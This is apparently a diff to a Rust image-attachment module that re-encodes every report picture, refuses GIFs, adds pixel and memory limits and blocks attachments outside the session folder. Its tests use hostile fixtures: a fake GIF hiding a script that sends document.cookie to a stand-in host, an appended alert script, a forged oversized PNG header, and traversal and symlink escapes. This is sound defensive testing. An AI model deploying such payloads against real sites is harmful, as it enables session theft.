@@ -1,7 +1,11 @@
-//! Reading attached photos: PNG, JPEG and GIF, recognised by their first
-//! bytes, with their size in pixels; decoding with EXIF orientation applied
-//! and scaling, for the screen (the app's decode thread) and for the report
-//! (scaled down and re-encoded so a report with phone photos can be mailed).
+//! Reading attached photos: PNG and JPEG, recognised by their first bytes,
+//! with their size in pixels; decoding with EXIF orientation applied and
+//! scaling, for the screen (the app's decode thread) and for the report.
+//! Nothing goes into a report as it was stored: every picture is decoded
+//! and encoded anew (so a file that only starts like an image, text after
+//! a picture, a cut-off JPEG's raw bytes or metadata never reach a reader),
+//! within limits of pixels and memory; a GIF is refused. Attachments are
+//! read only from inside the session's folder ([`crate::store::resolve_attachment`]).
 //! Reading only; a photo that cannot be used is reported, never fatal.
 
 use std::io::Cursor;
@@ -10,27 +14,34 @@ use std::path::Path;
 use image::metadata::Orientation;
 use image::{DynamicImage, ImageDecoder as _, ImageFormat, ImageReader, Limits};
 
-/// Photos larger than this are not inlined (a phone photo is a few MB).
+use crate::store::{Unresolved, resolve_attachment};
+
+/// Photos larger than this are not read (a phone photo is a few MB).
 const MAX_IMAGE_BYTES: u64 = 32 * 1024 * 1024;
 
 /// The longest side of a photo in the report, in pixels (sharp on A4 at 190 dpi).
 pub const REPORT_MAX_SIDE: u32 = 1600;
-/// The JPEG quality of photos re-encoded for the report.
+/// The JPEG quality of photos encoded for the report.
 const REPORT_JPEG_QUALITY: u8 = 80;
-/// Photos up to this size that need no scaling or turning stay as they are.
-const REPORT_KEEP_BYTES: usize = 512 * 1024;
+/// A picture without transparency stays PNG up to this size (a drawing or
+/// a screenshot stays sharp); a heavier one becomes a JPEG.
+const REPORT_PNG_BYTES: usize = 512 * 1024;
 /// The widest or tallest image that is decoded at all (a 100-megapixel
 /// camera is 12 000 pixels wide).
 const MAX_DECODE_SIDE: u32 = 20_000;
-/// The most memory the decoder may take (a 12-megapixel photo needs 48 MB).
-const MAX_DECODE_ALLOC: u64 = 1024 * 1024 * 1024;
+/// The most pixels an image may have to be decoded: 50 megapixels (a
+/// 48-megapixel phone photo is fine, an 18 000 × 18 000 picture is not).
+pub const MAX_DECODE_PIXELS: u64 = 50_000_000;
+/// The most memory a decoded image may take: 256 MB.
+pub const MAX_DECODE_BYTES: u64 = 256 * 1024 * 1024;
 
 /// An image ready to be embedded.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub struct ImageData {
-    /// The MIME type: "image/png", "image/jpeg" or "image/gif".
+    /// The MIME type: "image/png" or "image/jpeg" ("image/gif" only as
+    /// recognised, never as given to a report).
     pub mime: &'static str,
-    /// The file's bytes, unchanged.
+    /// The picture's bytes.
     pub bytes: Vec<u8>,
     /// Width in pixels.
     pub width: u32,
@@ -43,11 +54,38 @@ pub struct ImageData {
 pub enum ImageProblem {
     /// No session folder was given, so attachments cannot be found.
     NoFolder,
-    /// The file is missing or cannot be read, or its path leaves the
-    /// session's folder (an absolute path or `..`).
+    /// The file is missing or cannot be read.
     Unreadable,
-    /// The file is not a PNG, JPEG or GIF image, or is too large.
+    /// The file is outside the session's folder: its path leaves it, or a
+    /// symbolic link (a Windows junction) leads out of it.
+    Outside,
+    /// The file is not a PNG or JPEG image (a GIF, or anything else), or
+    /// larger than 32 MB.
     Unsupported,
+    /// The picture has more pixels, or needs more memory, than is decoded
+    /// (50 megapixels, 256 MB).
+    TooLarge,
+    /// The picture is damaged and cannot be decoded.
+    Damaged,
+}
+
+impl From<Unresolved> for ImageProblem {
+    fn from(unresolved: Unresolved) -> Self {
+        match unresolved {
+            Unresolved::Outside => ImageProblem::Outside,
+            Unresolved::Missing => ImageProblem::Unreadable,
+        }
+    }
+}
+
+impl From<DecodeError> for ImageProblem {
+    fn from(error: DecodeError) -> Self {
+        match error {
+            DecodeError::Unsupported => ImageProblem::Unsupported,
+            DecodeError::TooLarge => ImageProblem::TooLarge,
+            DecodeError::Damaged(_) => ImageProblem::Damaged,
+        }
+    }
 }
 
 /// Why a photo could not be decoded.
@@ -75,8 +113,10 @@ impl From<image::ImageError> for DecodeError {
 }
 
 /// A decoder for a PNG or JPEG with limits (a corrupt or huge file gives
-/// an error, never a panic or an out-of-memory abort), and the picture's
-/// EXIF orientation, read before any pixel is decoded.
+/// an error, never a panic or an out-of-memory abort): at most
+/// [`MAX_DECODE_PIXELS`] pixels and [`MAX_DECODE_BYTES`] of pixel memory,
+/// checked from the header before any pixel is decoded. Also gives the
+/// picture's EXIF orientation.
 fn decoder_with_orientation(
     bytes: &[u8],
 ) -> Result<(impl image::ImageDecoder + '_, Orientation), DecodeError> {
@@ -89,26 +129,40 @@ fn decoder_with_orientation(
     let mut limits = Limits::default();
     limits.max_image_width = Some(MAX_DECODE_SIDE);
     limits.max_image_height = Some(MAX_DECODE_SIDE);
-    limits.max_alloc = Some(MAX_DECODE_ALLOC);
+    limits.max_alloc = Some(MAX_DECODE_BYTES);
     reader.limits(limits);
     let mut decoder = reader.into_decoder()?;
+    let (width, height) = decoder.dimensions();
+    if u64::from(width) * u64::from(height) > MAX_DECODE_PIXELS
+        || decoder.total_bytes() > MAX_DECODE_BYTES
+    {
+        return Err(DecodeError::TooLarge);
+    }
     // An unreadable EXIF block leaves the picture as it is stored.
     let orientation = decoder.orientation().unwrap_or(Orientation::NoTransforms);
     Ok((decoder, orientation))
 }
 
-/// Decodes a PNG or JPEG and returns the picture turned upright by its
-/// EXIF orientation, with that orientation.
-fn decode_with_orientation(bytes: &[u8]) -> Result<(DynamicImage, Orientation), DecodeError> {
+/// Decodes a PNG or JPEG, scales it down (never up) so its longest side is
+/// at most `max_side`, and turns it upright by its EXIF orientation (after
+/// scaling, so a large photo is never held twice at full size). Also says
+/// whether it was stored sideways.
+fn decode_scaled(bytes: &[u8], max_side: u32) -> Result<(DynamicImage, bool), DecodeError> {
     let (decoder, orientation) = decoder_with_orientation(bytes)?;
-    let mut image = DynamicImage::from_decoder(decoder)?;
+    let image = DynamicImage::from_decoder(decoder)?;
+    let max_side = max_side.max(1);
+    let mut image = if image.width().max(image.height()) > max_side {
+        image.thumbnail(max_side, max_side)
+    } else {
+        image
+    };
     image.apply_orientation(orientation);
-    Ok((image, orientation))
+    Ok((image, orientation != Orientation::NoTransforms))
 }
 
-/// Decodes a PNG or JPEG, turned upright by its EXIF orientation.
+/// Decodes a PNG or JPEG at its full size, turned upright by its EXIF orientation.
 pub fn decode_upright(bytes: &[u8]) -> Result<DynamicImage, DecodeError> {
-    decode_with_orientation(bytes).map(|(image, _)| image)
+    decode_scaled(bytes, u32::MAX).map(|(image, _)| image)
 }
 
 /// `image` scaled down (never up) so its longest side is at most
@@ -124,71 +178,79 @@ pub fn scaled_rgba(image: &DynamicImage, max_side: u32) -> image::RgbaImage {
 }
 
 /// Reads the image file at `path` (at most 32 MB), decodes it upright and
-/// scales it to at most `max_side`; for the app's decode thread.
+/// scales it to at most `max_side`; for the app's decode thread, which has
+/// checked that the file is inside the session's folder.
 pub fn load_scaled(path: &Path, max_side: u32) -> Result<image::RgbaImage, DecodeError> {
     let meta = std::fs::metadata(path).map_err(|e| DecodeError::Damaged(e.to_string()))?;
     if meta.len() > MAX_IMAGE_BYTES {
         return Err(DecodeError::TooLarge);
     }
     let bytes = std::fs::read(path).map_err(|e| DecodeError::Damaged(e.to_string()))?;
-    Ok(scaled_rgba(&decode_upright(&bytes)?, max_side))
+    Ok(decode_scaled(&bytes, max_side)?.0.to_rgba8())
 }
 
-/// An image made fit for mailing: a PNG or JPEG larger than
-/// [`REPORT_MAX_SIDE`], or stored sideways (EXIF orientation), or heavier
-/// than half a megabyte is decoded, turned upright, scaled down and
-/// re-encoded (JPEG at quality 80; PNG when it has transparency). Small
-/// upright images and GIFs stay as they are.
-pub fn for_report(data: ImageData) -> Result<ImageData, DecodeError> {
-    if data.mime == "image/gif" {
-        return Ok(data);
+/// A picture made fit for a report: decoded (a GIF is refused), turned
+/// upright, scaled to at most [`REPORT_MAX_SIDE`] and encoded anew: a PNG
+/// stays a PNG when it has transparency or stays small, everything else
+/// becomes a JPEG (quality 80). Nothing of the stored bytes is kept.
+pub fn for_report(data: &ImageData) -> Result<ImageData, DecodeError> {
+    if !matches!(data.mime, "image/png" | "image/jpeg") {
+        return Err(DecodeError::Unsupported);
     }
-    // Decoded even when kept as it is, so a damaged picture is noticed here
-    // (and noted in the report) rather than breaking a format later.
-    let (image, orientation) = decode_with_orientation(&data.bytes)?;
-    let upright = orientation == Orientation::NoTransforms;
-    let small = data.width.max(data.height) <= REPORT_MAX_SIDE;
-    if upright && small && data.bytes.len() <= REPORT_KEEP_BYTES {
-        return Ok(data);
+    let (image, _) = decode_scaled(&data.bytes, REPORT_MAX_SIDE)?;
+    let (width, height) = (image.width(), image.height());
+    if data.mime == "image/png" {
+        let alpha = image.color().has_alpha();
+        let png = encode_png(&image)?;
+        if alpha || png.len() <= REPORT_PNG_BYTES {
+            return Ok(ImageData {
+                mime: "image/png",
+                bytes: png,
+                width,
+                height,
+            });
+        }
     }
-    let scaled = scaled_rgba(&image, REPORT_MAX_SIDE);
-    let (width, height) = scaled.dimensions();
     let mut bytes = Vec::new();
-    let mime = if image.color().has_alpha() {
-        DynamicImage::ImageRgba8(scaled)
-            .write_to(&mut Cursor::new(&mut bytes), ImageFormat::Png)
-            .map_err(DecodeError::from)?;
-        "image/png"
-    } else {
-        let rgb = DynamicImage::ImageRgba8(scaled).to_rgb8();
-        image::codecs::jpeg::JpegEncoder::new_with_quality(&mut bytes, REPORT_JPEG_QUALITY)
-            .encode_image(&rgb)
-            .map_err(DecodeError::from)?;
-        "image/jpeg"
-    };
+    image::codecs::jpeg::JpegEncoder::new_with_quality(&mut bytes, REPORT_JPEG_QUALITY)
+        .encode_image(&DynamicImage::ImageRgb8(image.to_rgb8()))
+        .map_err(DecodeError::from)?;
     Ok(ImageData {
-        mime,
+        mime: "image/jpeg",
         bytes,
         width,
         height,
     })
 }
 
-/// Loads the attachment at `relative` (with `/` separators) from `folder`,
-/// made fit for mailing ([`for_report`]).
-pub fn load(folder: Option<&Path>, relative: &str) -> Result<ImageData, ImageProblem> {
-    let data = load_as_stored(folder, relative)?;
-    for_report(data).map_err(|_| ImageProblem::Unsupported)
+/// `image` as a PNG: 8 bits per channel, with transparency when it has it.
+fn encode_png(image: &DynamicImage) -> Result<Vec<u8>, DecodeError> {
+    let eight_bit = if image.color().has_alpha() {
+        DynamicImage::ImageRgba8(image.to_rgba8())
+    } else {
+        DynamicImage::ImageRgb8(image.to_rgb8())
+    };
+    let mut bytes = Vec::new();
+    eight_bit
+        .write_to(&mut Cursor::new(&mut bytes), ImageFormat::Png)
+        .map_err(DecodeError::from)?;
+    Ok(bytes)
 }
 
-/// Loads the attachment at `relative` from `folder` with its bytes unchanged.
+/// Loads the attachment at `relative` (with `/` separators) from `folder`,
+/// made fit for a report ([`for_report`]).
+pub fn load(folder: Option<&Path>, relative: &str) -> Result<ImageData, ImageProblem> {
+    let data = load_as_stored(folder, relative)?;
+    for_report(&data).map_err(ImageProblem::from)
+}
+
+/// Loads the attachment at `relative` from `folder` with its bytes as
+/// stored: only from inside the folder ([`resolve_attachment`]), at most
+/// 32 MB, and only what starts like a PNG, JPEG or GIF.
 pub fn load_as_stored(folder: Option<&Path>, relative: &str) -> Result<ImageData, ImageProblem> {
     let folder = folder.ok_or(ImageProblem::NoFolder)?;
-    let path = crate::model::attachment_path(folder, relative).ok_or(ImageProblem::Unreadable)?;
+    let path = resolve_attachment(folder, relative)?;
     let meta = std::fs::metadata(&path).map_err(|_| ImageProblem::Unreadable)?;
-    if !meta.is_file() {
-        return Err(ImageProblem::Unreadable);
-    }
     if meta.len() > MAX_IMAGE_BYTES {
         return Err(ImageProblem::Unsupported);
     }
@@ -396,7 +458,7 @@ pub(crate) mod tests {
     #[test]
     fn the_report_gets_sideways_and_large_photos_upright_and_scaled() {
         let sideways = recognise(with_exif_orientation(&two_colour_jpeg(64, 32), 6)).expect("jpeg");
-        let fixed = for_report(sideways).expect("re-encoded");
+        let fixed = for_report(&sideways).expect("re-encoded");
         assert_eq!(
             (fixed.mime, fixed.width, fixed.height),
             ("image/jpeg", 32, 64)
@@ -404,13 +466,116 @@ pub(crate) mod tests {
         assert_eq!(jpeg_size(&fixed.bytes), Some((32, 64)));
 
         let large = recognise(two_colour_jpeg(3200, 1800)).expect("jpeg");
-        let scaled = for_report(large).expect("scaled");
+        let scaled = for_report(&large).expect("scaled");
         assert_eq!((scaled.width, scaled.height), (1600, 900));
         assert_eq!(jpeg_size(&scaled.bytes), Some((1600, 900)));
+    }
 
-        // A small upright PNG stays exactly as it was.
-        let png = recognise(TINY_PNG.to_vec()).expect("png");
-        assert_eq!(for_report(png.clone()).expect("kept"), png);
+    #[test]
+    fn every_picture_is_encoded_anew_and_nothing_after_it_survives() {
+        // A small PNG with text after its end: a PNG again, without the text.
+        let mut png = TINY_PNG.to_vec();
+        png.extend_from_slice(b"<script>alert(1)</script> geheim wachtwoord");
+        let png = recognise(png).expect("png");
+        let fresh = for_report(&png).expect("re-encoded");
+        assert_eq!((fresh.mime, fresh.width, fresh.height), ("image/png", 2, 1));
+        assert_ne!(fresh.bytes, png.bytes);
+        assert!(!contains(&fresh.bytes, b"geheim"));
+        assert!(decode_upright(&fresh.bytes).is_ok());
+
+        let mut jpeg = two_colour_jpeg(40, 20);
+        jpeg.extend_from_slice(b"geheim wachtwoord");
+        let fresh = for_report(&recognise(jpeg).expect("jpeg")).expect("re-encoded");
+        assert_eq!(fresh.mime, "image/jpeg");
+        assert!(!contains(&fresh.bytes, b"geheim"));
+    }
+
+    /// Whether `needle` occurs in `haystack`.
+    pub(crate) fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+        haystack.windows(needle.len()).any(|w| w == needle)
+    }
+
+    #[test]
+    fn a_gif_that_hides_a_script_is_refused() {
+        let fake = b"GIF89a\x20\x00\x10\x00<script>fetch('https://x/'+document.cookie)</script>";
+        let data = recognise(fake.to_vec()).expect("looks like a GIF");
+        assert_eq!(data.mime, "image/gif");
+        assert_eq!(for_report(&data), Err(DecodeError::Unsupported));
+    }
+
+    #[test]
+    fn a_truncated_jpeg_is_never_embedded_as_it_was() {
+        let jpeg = two_colour_jpeg(64, 32);
+        let cut = jpeg[..jpeg.len() * 2 / 3].to_vec();
+        match for_report(&recognise(cut.clone()).expect("jpeg header")) {
+            // The decoder fills in what is missing: a whole, new JPEG.
+            Ok(fresh) => {
+                assert_ne!(fresh.bytes, cut);
+                assert!(fresh.bytes.ends_with(&[0xff, 0xd9]), "a complete JPEG");
+                assert!(decode_upright(&fresh.bytes).is_ok());
+            }
+            Err(error) => assert!(matches!(error, DecodeError::Damaged(_)), "{error:?}"),
+        }
+    }
+
+    /// The CRC-32 of PNG chunks (ISO 3309), bit by bit.
+    fn crc32(bytes: &[u8]) -> u32 {
+        let mut crc = 0xffff_ffff_u32;
+        for &byte in bytes {
+            crc ^= u32::from(byte);
+            for _ in 0..8 {
+                crc = if crc & 1 == 1 {
+                    (crc >> 1) ^ 0xedb8_8320
+                } else {
+                    crc >> 1
+                };
+            }
+        }
+        !crc
+    }
+
+    /// [`TINY_PNG`] with its header claiming `width` × `height` pixels (and
+    /// a correct checksum, so only the size can be refused).
+    pub(crate) fn png_claiming(width: u32, height: u32) -> Vec<u8> {
+        let mut png = TINY_PNG.to_vec();
+        png[16..20].copy_from_slice(&width.to_be_bytes());
+        png[20..24].copy_from_slice(&height.to_be_bytes());
+        let crc = crc32(&png[12..29]);
+        png[29..33].copy_from_slice(&crc.to_be_bytes());
+        png
+    }
+
+    #[test]
+    fn an_18000_square_png_is_refused_before_decoding() {
+        // The header says 18 000 × 18 000 (324 megapixels, 1.3 GB as RGBA).
+        assert_eq!(crc32(&TINY_PNG[12..29]).to_be_bytes(), TINY_PNG[29..33]);
+        let huge = png_claiming(18_000, 18_000);
+        let started = std::time::Instant::now();
+        assert_eq!(decode_upright(&huge).err(), Some(DecodeError::TooLarge));
+        let data = recognise(huge).expect("png header");
+        assert_eq!(for_report(&data), Err(DecodeError::TooLarge));
+        assert!(started.elapsed() < std::time::Duration::from_secs(5));
+        // 7072 × 7072 is 50 megapixels and a little: too many as well.
+        let over = png_claiming(7072, 7072);
+        assert_eq!(decode_upright(&over).err(), Some(DecodeError::TooLarge));
+    }
+
+    #[test]
+    fn a_symlink_out_of_the_folder_is_outside() {
+        let dir = tempfile::tempdir().expect("temp dir");
+        let folder = dir.path().join("sessie");
+        std::fs::create_dir_all(&folder).expect("folder");
+        std::fs::write(dir.path().join("privé.png"), TINY_PNG).expect("write");
+        #[cfg(unix)]
+        {
+            std::os::unix::fs::symlink(dir.path().join("privé.png"), folder.join("bord.png"))
+                .expect("link");
+            assert_eq!(load(Some(&folder), "bord.png"), Err(ImageProblem::Outside));
+        }
+        assert_eq!(
+            load(Some(&folder), "../privé.png"),
+            Err(ImageProblem::Outside)
+        );
     }
 
     #[test]
